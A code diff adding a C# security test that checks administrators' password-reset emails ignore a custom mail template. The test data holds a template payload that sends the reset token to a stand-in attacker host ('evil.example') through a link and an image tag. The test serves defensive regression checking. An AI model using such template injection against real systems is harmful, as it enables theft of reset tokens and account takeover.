@@ -148,6 +148,27 @@ public sealed class PasswordResetTests : IAsyncLifetime
         Assert.Single(answers, answer => answer.Status == HttpStatusCode.OK);
     }
 
+    // Else who may write templates but not make administrators could have an administrator's token sent to a place of their own.
+    [Fact]
+    public async Task Request_Administrator_IsMailedTheFirstTextsWhateverIsWritten()
+    {
+        var written = await Accounts.Engine.RestAsync(
+            HttpMethod.Put, "/api/v1/mail/templates/reset-password", new { subject = "Mine", text = "https://evil.example/{{token}}", html = "<img src='https://evil.example/{{token}}'>" });
+        Assert.Equal(HttpStatusCode.OK, written.Status);
+        await Accounts.RegisterAsync();
+        await Accounts.MailAsync(1);
+
+        await Accounts.PostAsync("auth/request-password-reset", new { email = TestAdministrator.Email });
+        var administrators = await Accounts.MailAsync(2);
+        await Accounts.PostAsync("auth/request-password-reset", new { email = MailedAccounts.Email, collection = "customers" });
+        var accounts = await Accounts.MailAsync(3);
+
+        Assert.DoesNotContain("evil", administrators, StringComparison.Ordinal);
+        Assert.DoesNotContain("Mine", administrators, StringComparison.Ordinal);
+        Assert.Contains("/reset-password?token=", administrators, StringComparison.Ordinal);
+        Assert.Contains("https://evil.example/", accounts, StringComparison.Ordinal);
+    }
+
     [Fact]
     public async Task Reset_Administrator_Works()
     {
